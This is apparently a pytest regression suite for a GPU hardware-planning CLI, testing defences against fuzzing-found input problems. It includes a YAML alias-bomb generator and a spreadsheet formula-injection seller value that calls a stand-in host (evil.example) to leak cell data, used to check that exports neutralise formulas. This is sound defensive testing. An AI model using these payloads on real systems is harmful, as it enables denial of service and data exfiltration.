"""One test per failure found by fuzzing (issue 17): numbers, hostile YAML, unbounded work,
writing outputs, time limits and interrupts, internal errors. Each would fail on the old code."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import cli
from catalog.errors import HwplanError, ProblemError, SolverTimeoutError
from catalog.tools import import_sheet
from catalog.yamlio import ALIAS_NODE_BUDGET, read_yaml
from optimizer.model import Limits, PlanModel
from optimizer.scaling import INT_LIMIT
from optimizer.search import parse_range
from problems import bundled_problem_path

from .synthetic import FakeUnit

R1 = str(bundled_problem_path("deepseek-r1-30-users"))
OFFERS = str(bundled_problem_path("llama-3.1-70b-h100-pcie-offers"))
SEED_PRICE = "  - {{item: hgx-h200-8x, price: {price}, seller: '{seller}', source: test sheet, price_date: '2025-02-11'}}\n"


def run(*args, **kwargs):
    result = CliRunner().invoke(cli.main, [str(a) for a in args], **kwargs)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def price_list(path: Path, pid: str, offers: str, currency: str = "CNY") -> Path:
    path.write_text(f"schema_version: 1\nprice_lists:\n- id: {pid}\n  name: test list\n  currency: {currency}\n"
                    f"  source: test sheet\n  date: '2025-02-11'\n  offers:\n{offers}")
    return path


# -- 1. numbers that are not finite or not representable ---------------------------------------------
@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e400"])
def test_max_power_kw_must_be_finite(value):
    result = run("solve", R1, "--max-power-kw", value)
    assert result.exit_code == 2 and "--max-power-kw" in result.output and "finite" in result.output


@pytest.mark.parametrize("value", ["nan", "inf"])
def test_time_limit_must_be_finite(value):
    result = run("solve", R1, "--time-limit", value)
    assert result.exit_code == 2 and "--time-limit" in result.output


def test_nan_in_a_problem_file_names_the_field(tmp_path):
    p = tmp_path / "p.yaml"
    p.write_text("model: deepseek-r1\nworkload: {concurrent_users: 30, min_tokens_per_s: .nan}\n")
    result = run("solve", p)
    assert result.exit_code == 2 and "min_tokens_per_s" in result.output and "p.yaml:2" in result.output


@pytest.mark.parametrize("cell", ["1e400", "inf", "-1e400"])
@pytest.mark.parametrize("column", ["Qty", "Warranty"])
def test_sheet_cells_beyond_range_are_rejected_naming_the_column(tmp_path, cell, column):
    sheet = tmp_path / "s.csv"
    row = {"Qty": "3", "Warranty": "12", column: cell}
    sheet.write_text(f"SKU,Price,Qty,Warranty\nh100-pcie,25000,{row['Qty']},{row['Warranty']}\n"
                     f"h100-pcie,26000,2,6\n")
    result = import_sheet(sheet, seller="Acme", mapping={"SKU": "item", "Price": "price", "Qty": "stock",
                                                         "Warranty": "warranty_months"})
    assert result.accepted == 1 and [r for r, _ in result.rejected] == [2]
    assert f"'{column}'" in result.rejected[0][1] and cell in result.rejected[0][1]


def _units(n: int, cost: int, users: int) -> list[FakeUnit]:
    return [FakeUnit(id=f"u{i}", users=users, cost=cost, power_w=1000, nodes=1, gpus=8, accelerator_id="a",
                     sku=f"s{i}") for i in range(n)]


def test_a_model_past_62_bits_is_refused_before_cp_sat_sees_it():
    # 10^6 one-user replicas at 10^14 (a 10^12 price in cents): 3 units × 10^6 × 10^14 = 3·10^20 > 2^62.
    units = _units(3, 10**14, 1)
    assert 3 * 10**6 * 10**14 >= INT_LIMIT
    with pytest.raises(ProblemError, match="2\\^62"):
        PlanModel(units, Limits(demand=10**6))


def test_a_model_inside_62_bits_is_built_and_solved():
    # 10^5 replicas (10^6 users / 10 per replica) at 10^9: 3 × 10^5 × 10^9 = 3·10^14 < 2^62.
    units = _units(3, 10**9, 10)
    model = PlanModel(units, Limits(demand=10**6))
    assert model.model.validate() == ""
    sol = model.solve("cost")
    assert sol.values["cost"] == 10**5 * 10**9


def test_schema_limits_never_make_cp_sat_reject_the_model(tmp_path):
    # Every item at the schema's largest price with 10^6 users: a plan, or exit 2 naming what to lower.
    from catalog import load_catalog

    cat = load_catalog()
    items = [*cat.accelerators, *cat.platforms, *cat.systems]
    offers = "".join(SEED_PRICE.replace("hgx-h200-8x", i).format(price="999999999999.99", seller=f"s{n}")
                     for n, i in enumerate(items))
    big = price_list(tmp_path / "big.yaml", "big", offers, currency="USD")
    for currency in ("USD", "CNY"):
        result = run("solve", "--model", "llama-3.1-70b", "--users", "1000000", "--min-tokens-per-s", "60",
                     "--catalog", big, "--prices", "big", "--currency", currency)
        assert result.exit_code in (0, 2), result.output
        if result.exit_code == 2:
            assert "2^62" in result.output and "--users" in result.output


# -- 2. YAML built to hurt -----------------------------------------------------------------------------
def _bomb(levels: int) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_without_expanding_it(tmp_path):
    # 9^13 ≈ 2.5·10^12 values when expanded: this test could never finish if anything expanded it.
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(_bomb(13))
    with pytest.raises(HwplanError, match="alias") as exc:
        read_yaml(bomb)
    assert "bomb.yaml:" in str(exc.value) and f"{ALIAS_NODE_BUDGET:,}" in str(exc.value)
    for args in (["solve", bomb], ["solve", R1, "--catalog", bomb], ["catalog", "validate", bomb]):
        result = run(*args)
        assert result.exit_code == 2 and "alias" in result.output


def test_a_few_aliases_are_still_read(tmp_path):
    doc = tmp_path / "ok.yaml"
    doc.write_text("base: &b {x: 1, y: [1, 2]}\nc: *b\nd: *b\n")
    assert read_yaml(doc).data["d"] == {"x": 1, "y": [1, 2]}


def test_recursive_alias_is_refused_with_its_line(tmp_path):
    doc = tmp_path / "rec.yaml"
    doc.write_text("model: deepseek-r1\nworkload: &w {concurrent_users: 3, more: *w}\n")
    result = run("solve", doc)
    assert result.exit_code == 2 and "rec.yaml:2:" in result.output and "recursive alias" in result.output


def test_deep_nesting_is_refused(tmp_path):
    doc = tmp_path / "deep.yaml"
    doc.write_text("a: " + "{b: " * 200 + "1" + "}" * 200 + "\n")
    with pytest.raises(HwplanError, match="deep.yaml"):
        read_yaml(doc)


# -- 3. unbounded work from small input ---------------------------------------------------------------
@pytest.mark.parametrize("text", ["1:2:1e-9", "0:1e308:1e-308", "1:10001:1"])
def test_sweep_range_counts_points_before_building_them(text):
    with pytest.raises(HwplanError, match="10,000"):
        parse_range(text, "--users")


def test_sweep_range_at_the_cap_and_infinite_ends():
    assert len(parse_range("1:10000:1", "--users")) == 10_000
    with pytest.raises(HwplanError, match="finite"):
        parse_range("1:inf:1", "--users")
    with pytest.raises(HwplanError, match="finite"):
        parse_range("1,nan", "--users")


def test_the_same_price_list_twice_counts_once():
    once = run("solve", OFFERS, "--format", "json")
    twice = run("solve", OFFERS, "--prices", "vendor-offers-usd-2025", "--prices", "vendor-offers-usd-2025",
                "--format", "json")
    assert once.exit_code == 0 and twice.exit_code == 0, twice.output
    import json

    a, b = json.loads(once.output), json.loads(twice.output)
    assert a["plan"]["totals"]["cost"] == b["plan"]["totals"]["cost"]


def test_repeated_vendor_and_catalog_flags_count_once(tmp_path):
    extra = price_list(tmp_path / "x.yaml", "x-list", SEED_PRICE.format(price=100, seller="Acme"))
    result = run("solve", R1, "--vendor", "nvidia", "--vendor", "nvidia", "--catalog", extra, "--catalog", extra,
                 "--prices", "x-list", "--prices", "x-list", "--format", "json")
    assert result.exit_code == 0, result.output


# -- 4. writing outputs ------------------------------------------------------------------------------------
def test_dev_null_is_never_an_output_even_with_force():
    with pytest.raises(HwplanError, match="not a regular file"):
        cli.check_output("/dev/null", True)


def test_fifo_and_symlink_are_never_replaced(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    target = tmp_path / "target.txt"
    target.write_text("keep")
    link = tmp_path / "link.json"
    link.symlink_to(target)
    for path, why in ((fifo, "not a regular file"), (link, "symbolic link")):
        result = run("solve", R1, "-o", path, "--force")
        assert result.exit_code == 2 and why in result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and os.path.islink(link) and target.read_text() == "keep"


def test_a_new_file_is_created_exclusively(tmp_path, monkeypatch):
    # Another process creates the file while this one writes its temp file: it is left alone, not replaced.
    out = tmp_path / "plan.txt"
    real_mkstemp = cli.tempfile.mkstemp

    def racing_mkstemp(*args, **kwargs):
        made = real_mkstemp(*args, **kwargs)
        out.write_text("the other process's plan")
        return made

    monkeypatch.setattr(cli.tempfile, "mkstemp", racing_mkstemp)
    with pytest.raises(HwplanError, match="exists|appeared"):
        cli.write_output("my plan", str(out), False)
    assert out.read_text() == "the other process's plan"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.txt"]  # no temp file left behind


def test_exclusive_creation_refuses_an_existing_name(tmp_path):
    out = tmp_path / "plan.txt"
    out.write_text("first")
    tmp = tmp_path / "tmp"
    tmp.write_text("second")
    with pytest.raises(HwplanError, match="appeared"):
        cli._create_exclusively(str(tmp), out, b"second", str(out), "-o")
    assert out.read_text() == "first"


def test_every_output_path_is_checked_before_any_is_written(tmp_path):
    existing = tmp_path / "existing.json"
    existing.write_text("{}")
    bom = tmp_path / "bom.csv"
    result = run("solve", R1, "--export", bom, "-o", existing)
    assert result.exit_code == 2 and "existing.json" in result.output
    assert not bom.exists() and existing.read_text() == "{}"


def test_the_same_file_for_two_outputs_is_refused(tmp_path):
    out = tmp_path / "x.csv"
    result = run("solve", R1, "--export", out, "-o", out)
    assert result.exit_code == 2 and not out.exists()


def test_long_values_are_shortened_in_messages(tmp_path):
    p = tmp_path / "p.yaml"
    p.write_text(f"model: {'x' * 100_000}\nworkload: {{concurrent_users: 3}}\n{'k' * 100_000}: 1\n")
    result = run("solve", p)
    assert result.exit_code == 2 and len(result.output) < 2000, len(result.output)
    result = run("solve", "--model", "y" * 100_000, "--users", "3")
    assert result.exit_code == 2 and len(result.output) < 4000, len(result.output)


def _injected_plan(tmp_path, fmt):
    seller = '=HYPERLINK("http://evil.example/?x="&A1)'
    prices = price_list(tmp_path / "evil.yaml", "evil", SEED_PRICE.format(price=100, seller=seller.replace("'", "''")))
    problem = tmp_path / "p.yaml"
    problem.write_text("name: '@SUM(1+1)'\ndescription: '-2+3'\nmodel: deepseek-r1\n"
                       "workload: {concurrent_users: 30}\nprices: evil\n")
    out = tmp_path / f"bom.{fmt}"
    result = run("solve", problem, "--catalog", prices, "--export", out)
    assert result.exit_code == 0, result.output
    return out, seller


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path):
    out, seller = _injected_plan(tmp_path, "csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert rows[0]["seller"] == "'" + seller
    assert float(rows[0]["unit_price"]) == 100 and rows[-1]["seller"] == "TOTAL"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_xlsx_export_neutralises_formulas_and_keeps_numbers(tmp_path):
    from openpyxl import load_workbook

    out, seller = _injected_plan(tmp_path, "xlsx")
    wb = load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    summary = {r[0].value: r[1].value for r in wb["Summary"].iter_rows() if r[0].value}
    assert summary["Question"] == "'@SUM(1+1)" and summary["Description"] == "'-2+3"
    plan = wb.worksheets[1]
    header = [c.value for c in plan[1]]
    first = {h: c.value for h, c in zip(header, plan[2])}
    assert first["seller"] == "'" + seller and first["unit_price"] == 100


def test_neutralise_keeps_plain_negative_numbers():
    from optimizer.export import neutralise

    assert neutralise("-5") == "-5" and neutralise(-5) == -5 and neutralise("-1e3") == "-1e3"
    assert neutralise("-1+1") == "'-1+1" and neutralise("\tx") == "'\tx" and neutralise("a=b") == "a=b"


# -- 5. time limits and interrupts -----------------------------------------------------------------------
def test_a_time_out_has_its_own_exit_code(monkeypatch, tmp_path):
    import optimizer.solve

    def out_of_time(*args, **kwargs):
        raise SolverTimeoutError("the time limit of 0.01 s ran out before any plan was found")

    monkeypatch.setattr(optimizer.solve, "solve_units", out_of_time)
    out = tmp_path / "plan.json"
    result = run("solve", R1, "--time-limit", "0.01", "-o", out)
    assert result.exit_code == cli.EXIT_TIMEOUT == 3 and "time limit" in result.output and not out.exists()


def test_a_tiny_time_limit_never_gives_exit_1_and_no_output():
    result = run("solve", R1, "--time-limit", "0.01")
    assert result.exit_code in (0, cli.EXIT_TIMEOUT)
    assert result.output.strip()


def test_pareto_keeps_the_points_found_when_time_runs_out(monkeypatch):
    real = PlanModel.solve
    calls = []

    def second_times_out(self, objective, options=None):
        calls.append(objective)
        if len(calls) == 2:
            raise SolverTimeoutError("the time limit ran out")
        return real(self, objective, options) if options else real(self, objective)

    monkeypatch.setattr(PlanModel, "solve", second_times_out)
    result = run("pareto", R1, "--format", "json")
    assert result.exit_code == 0, result.output
    assert "time limit ran out" in result.output and len(calls) == 2


def test_shortlist_keeps_the_plans_found_when_time_runs_out(monkeypatch):
    real = PlanModel.solve
    calls = []

    def second_times_out(self, objective, options=None):
        calls.append(objective)
        if len(calls) == 2:
            raise SolverTimeoutError("the time limit ran out")
        return real(self, objective, options) if options else real(self, objective)

    monkeypatch.setattr(PlanModel, "solve", second_times_out)
    result = run("shortlist", R1, "-k", "3", "--format", "json")
    assert result.exit_code == 0, result.output
    import json

    plans = json.loads(result.stdout)["plans"]
    assert len(plans) == 1 and any("time limit ran out" in n for n in plans[0]["notes"])


def test_ctrl_c_exits_130_with_one_line_and_no_output_file(monkeypatch, tmp_path):
    import optimizer.render

    def interrupt(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(optimizer.render, "render_plan", interrupt)
    bom, out = tmp_path / "bom.csv", tmp_path / "plan.txt"
    result = run("solve", R1, "--export", bom, "-o", out)
    assert result.exit_code == 130
    assert result.output.strip() == "wrote " + str(bom) + "\nInterrupted."  # the export was removed again
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(sys.platform == "win32", reason="process groups and SIGINT are POSIX")
def test_ctrl_c_during_a_sweep_with_workers(tmp_path):
    out = tmp_path / "sweep.txt"
    proc = subprocess.Popen([sys.executable, "-m", "cli", "sweep", "llama-3.1-70b-100-users", "--users",
                             "1:4000:1", "--workers", "2", "-o", str(out)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True,
                            cwd=Path(__file__).parent.parent)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:  # wait until the worker processes run
        children = Path(f"/proc/{proc.pid}/task/{proc.pid}/children")
        if children.exists() and len(children.read_text().split()) >= 2:
            break
        time.sleep(0.2)
    time.sleep(1.0)
    os.killpg(proc.pid, signal.SIGINT)  # as a terminal does: the whole process group
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert "Traceback" not in err and "BrokenProcessPool" not in err
    assert err.strip().splitlines() == ["Interrupted."]
    assert not out.exists()


# -- 6. internal errors that reached users as tracebacks ---------------------------------------------------
def test_auto_in_a_precision_list(tmp_path):
    p = tmp_path / "p.yaml"
    p.write_text("model: deepseek-r1\nprecision: [auto]\nworkload: {concurrent_users: 30}\nprices: seed-2025-02\n")
    result = run("solve", p, "--format", "json")
    assert result.exit_code == 0, result.output
    assert '"fp8"' in result.output  # auto = the native precision of DeepSeek-R1


def test_max_skus_with_a_budget_no_unit_meets(tmp_path):
    p = tmp_path / "p.yaml"
    p.write_text("model: deepseek-r1\nworkload: {concurrent_users: 30}\nprices: seed-2025-02\n"
                 "constraints: {max_skus: 1, budget: 1000}\n")
    result = run("solve", p)
    assert result.exit_code == 1 and "budget" in result.output


@pytest.mark.parametrize("flags, named", [(["--seller", "Acme", "--id", "!!!"], "--id"),
                                          (["--seller", "!!!"], "--seller"),
                                          (["--seller", "Acme", "--id", "a" * 81], "--id"),
                                          (["--seller", "Acme", "--date", "2025-13-01"], "--date")])
def test_import_refuses_an_invalid_price_list_id_or_date(tmp_path, flags, named):
    sheet = tmp_path / "s.csv"
    sheet.write_text("SKU,Price\nh100-pcie,25000\n")
    out = tmp_path / "out.yaml"
    result = run("catalog", "import", sheet, *flags, "--map", "SKU=item", "--map", "Price=price", "-o", out)
    assert result.exit_code == 2 and named in result.output and not out.exists()


@pytest.mark.parametrize("date", ["2025-13-45", "'2025-02-30'"])
def test_an_invalid_date_in_a_catalog_file_is_located(tmp_path, date):
    bad = price_list(tmp_path / "bad.yaml", "bad", SEED_PRICE.format(price=100, seller="Acme")
                     .replace("'2025-02-11'", date))
    for args in (["solve", R1, "--catalog", bad], ["catalog", "validate", bad]):
        result = run(*args)
        assert result.exit_code == 2 and "bad.yaml:9:" in result.output, result.output



# -- found by benchmarks/fuzz.py ---------------------------------------------------------------------------
def test_max_power_kw_that_overflows_in_watts():
    result = run("solve", R1, "--max-power-kw", "1e308")
    assert result.exit_code == 2 and "--max-power-kw" in result.output


def test_short_and_long_csv_rows_read_as_strings(tmp_path):
    from catalog.yamlio import read_csv

    sheet = tmp_path / "s.csv"
    sheet.write_text("a,b,c\n1\n1,2,3,4,5\n")
    assert read_csv(sheet, what="sheet")[1] == [{"a": "1", "b": "", "c": ""}, {"a": "1", "b": "2", "c": "3"}]


@pytest.mark.parametrize("content", [b"SKU,Price\nh100-pcie,25\x00000\n",
                                     b"SKU,Price\nh100-pcie," + b"x" * 200_000 + b"\n"])
def test_unreadable_csv_is_bad_input(tmp_path, content):
    sheet = tmp_path / "s.csv"
    sheet.write_bytes(content)
    result = run("catalog", "import", sheet, "--seller", "Acme", "--map", "SKU=item", "--map", "Price=price")
    assert result.exit_code in (0, 2)  # a NUL may still parse; nothing crashes
    result = run("validate", "--file", sheet)
    assert result.exit_code == 2 and "s.csv" in result.output


@pytest.mark.parametrize("value", ["nan", "inf", "1e400"])
def test_a_non_finite_measurement_is_set_aside(tmp_path, value):
    from catalog import load_catalog
    from optimizer.validate import read_cases

    from optimizer.validate import bundled_measurements

    rows = bundled_measurements()[0].read_text().splitlines()
    header = rows[0].split(",")
    first = next(csv.DictReader(io.StringIO("\n".join(rows[:2]))))
    first["value"] = value
    path = tmp_path / "m.csv"
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=header, lineterminator="\n")
    w.writeheader()
    w.writerow(first)
    path.write_text(buf.getvalue())
    cases, skipped = read_cases(path, load_catalog())
    assert cases == [] and skipped and "not a finite number" in skipped[0][1]


def test_estimate_refuses_a_gpu_count_it_cannot_lay_out():
    # 10^40 accelerators made the layout search loop over every divisor candidate (a hang).
    result = run("estimate", "--model", "deepseek-r1", "--accelerator", "h200-sxm", "--gpus", "9" * 40)
    assert result.exit_code == 2 and "--gpus" in result.output


def test_sweep_never_starts_more_workers_than_chunks(monkeypatch):
    import optimizer.search as search

    started = []

    class Pool:
        def __init__(self, max_workers, **kwargs):
            started.append(max_workers)
            raise KeyboardInterrupt  # stop before any process starts

    monkeypatch.setattr(search, "ProcessPoolExecutor", Pool)
    result = run("sweep", "llama-3.1-70b-100-users", "--users", "10,20,30", "--workers", "1000000")
    # 3 points make one chunk of SWEEP_CHUNK = 25: one worker process at most.
    assert started == [] or started == [1]
    assert result.exit_code in (0, 130)
